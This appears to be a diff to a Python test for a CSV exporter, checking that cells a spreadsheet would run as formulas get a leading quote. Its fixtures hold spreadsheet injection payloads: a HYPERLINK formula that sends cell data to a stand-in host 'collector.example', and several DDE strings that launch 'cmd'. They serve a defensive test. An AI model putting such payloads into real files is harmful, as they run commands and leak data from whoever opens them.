@@ -68,9 +68,11 @@ def test_unknown_format(store, tmp_path):
 
 
 #: Cells a spreadsheet would run as formulas (written for this test).
+FORMULA_TITLE = '=HYPERLINK("http://collector.example/?q="&A1,"Open the report")'
+FORMULA_OUTLET = "+cmd|' /C calc'!A0"
 FORMULAS = {
-    "title": '=HYPERLINK("http://collector.example/?q="&A1,"Open the report")',
-    "outlet": "+cmd|' /C calc'!A0",
+    "title": FORMULA_TITLE,
+    "outlet": FORMULA_OUTLET,
     "tags": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
 }
 FORMULA_TEXT = "=1+1 is how the ledger clerk began every line of the report on the shelling of the depot on Monday."
@@ -87,8 +89,8 @@ def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(store, nlp, tmp
     export(store, "csv", tmp_path / "csv")
     with (tmp_path / "csv" / "documents.csv").open(encoding="utf-8", newline="") as stream:
         (row,) = list(csv.DictReader(stream))
-    assert row["title"] == "'" + FORMULAS["title"]
-    assert row["outlet"] == "'" + FORMULAS["outlet"]
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["outlet"] == "'" + FORMULA_OUTLET
     assert row["text"] == "'" + FORMULA_TEXT
     assert json.loads(row["tags"].removeprefix("'")) == FORMULAS["tags"]  # a JSON array starts with "["
     assert row["input"].endswith("formulas.jsonl#1") and not row["input"].startswith("'")
